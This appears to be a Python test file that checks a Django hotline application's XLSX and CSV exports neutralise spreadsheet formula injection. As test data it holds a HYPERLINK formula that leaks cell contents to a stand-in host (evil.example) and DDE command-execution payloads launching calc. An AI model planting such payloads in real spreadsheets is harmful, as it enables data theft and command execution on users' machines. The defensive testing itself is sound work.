"""No export carries a live spreadsheet formula (issue 10 finding 4): names, texts and reasons that start
like a formula reach every XLSX and CSV export neutralised (hotline.core.spreadsheet), numbers stay
numbers — and every export goes through that one helper."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

from django.urls import reverse
from openpyxl import load_workbook

from hotline.cli.main import main
from hotline.core.spreadsheet import FORMULA_STARTS

ROOT = Path(__file__).resolve().parents[1] / "hotline"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def assert_no_formula(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells
    for c in cells:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str) and c.value[0] in FORMULA_STARTS:
            assert NUMBER.fullmatch(c.value), (c.coordinate, c.value)
    return [c.value for c in cells]


def test_every_workbook_an_export_builds_is_saved_through_the_helper():
    """A new export that saves a workbook itself (``wb.save``) would skip the neutralising: each
    ``Workbook()`` is returned through ``xlsx_bytes(wb)``, each ``csv.writer`` writes neutralised rows."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        if "/tests/" in str(path) or path.name == "spreadsheet.py":
            continue
        if path.name == "backup.py":  # the backup's recordings index is read back by restore, never by Excel
            continue
        text = path.read_text()
        if text.count("Workbook()") > text.count("xlsx_bytes(wb"):
            offenders.append(str(path))
        if "csv.writer(" in text and "neutralise" not in text:
            offenders.append(str(path))
    assert offenders == []


def test_the_roster_xlsx(personas, login):
    from hotline.workforce.tests.helpers import make_shifts, published_roster

    personas.agent.name = EVIL
    personas.agent.save()
    shifts = make_shifts(personas.center)
    roster = published_roster(
        personas.center, personas.team_a, dt.date(2026, 11, 2), {personas.agent: "早中"}, shifts
    )
    r = login(personas.planner).get(reverse("workforce:roster_xlsx", args=[roster.pk]))
    assert r.status_code == 200
    assert "'" + EVIL in assert_no_formula(r.content)


def test_the_appraisal_table_xlsx(personas, login):
    from hotline.performance.models import Attendance

    personas.agent.name = "@SUM(1+9)*cmd|' /C calc'!A0"
    personas.agent.save()
    Attendance.objects.create(key="k", agent=personas.agent, date=dt.date(2026, 10, 9), kind="sick", days=2)
    r = login(personas.manager).get(reverse("performance:table"), {"month": "2026-10", "format": "xlsx"})
    assert r.status_code == 200
    values = assert_no_formula(r.content)
    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in values and 80 in values  # numbers stay numbers


def test_the_analysis_xlsx(personas):
    from hotline.feedback.exports import analysis_xlsx, records_xlsx
    from hotline.feedback.models import Analysis

    a = Analysis(
        center=personas.center, monitor=personas.monitor, scope="team", period="2026-10-H1",
        common_problems="-1+cmd|' /C calc'!A0", strengths="+好", proposed_training="\t=1",
        data={
            "trend_periods": ["2026-09-H2"],
            "agents": [{"work_number": "8001", "name": EVIL, "recording": 90, "live": 80, "mean": 85,
                        "monthly": 85, "trend": [84], "failed_items": ["=礼貌"]}],
            "pareto": [{"text": "@问候", "count": 2, "share": 50, "cumulative": 50, "rate": 0.1, "agents": ["=x"]}],
            "records": [{"work_number": "8001", "agent": EVIL, "kind": "recording", "date": "2026-10-08", "order": 1,
                         "call": "=c1", "started": "", "ended": "", "score": -5, "version": 1, "lost": [],
                         "critical": [], "strengths": "=s", "improvements": "-i"}],
        },
    )  # fmt: skip
    values = assert_no_formula(analysis_xlsx(a))
    assert "'" + EVIL in values and "'-1+cmd|' /C calc'!A0" in values and -5 in values
    assert "'=c1" in assert_no_formula(records_xlsx(a))


def test_the_call_export_csv(personas, tmp_path):
    from hotline.calls.tests.helpers import make_call

    call = make_call(personas.agent, "=1+2", with_audio=False)
    call.reason = "=cmd|' /C calc'!A0"
    call.customer = "+8613800138000"
    call.save()
    out = tmp_path / "calls.csv"
    assert main(["export", "calls", str(out)]) == 0
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    row = rows[1]
    assert row[0] == "'=1+2" and "'=cmd|' /C calc'!A0" in row and "+8613800138000" in row
    for cell in (c for r in rows for c in r):
        assert not cell or cell[0] not in FORMULA_STARTS or NUMBER.fullmatch(cell), cell


def test_the_plan_xlsx(personas):
    from hotline.core.periods import Period
    from hotline.quality import services
    from hotline.quality.plan_view import plan_xlsx
    from hotline.quality.tests.helpers import PERIOD, TODAY, period_calls

    personas.agent.name = EVIL
    personas.agent.save()
    period_calls(personas.agent, 8)
    services.plan_generate(center=personas.center, period=PERIOD, today=TODAY)
    values = assert_no_formula(plan_xlsx(personas.center, Period.parse(PERIOD)))
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)
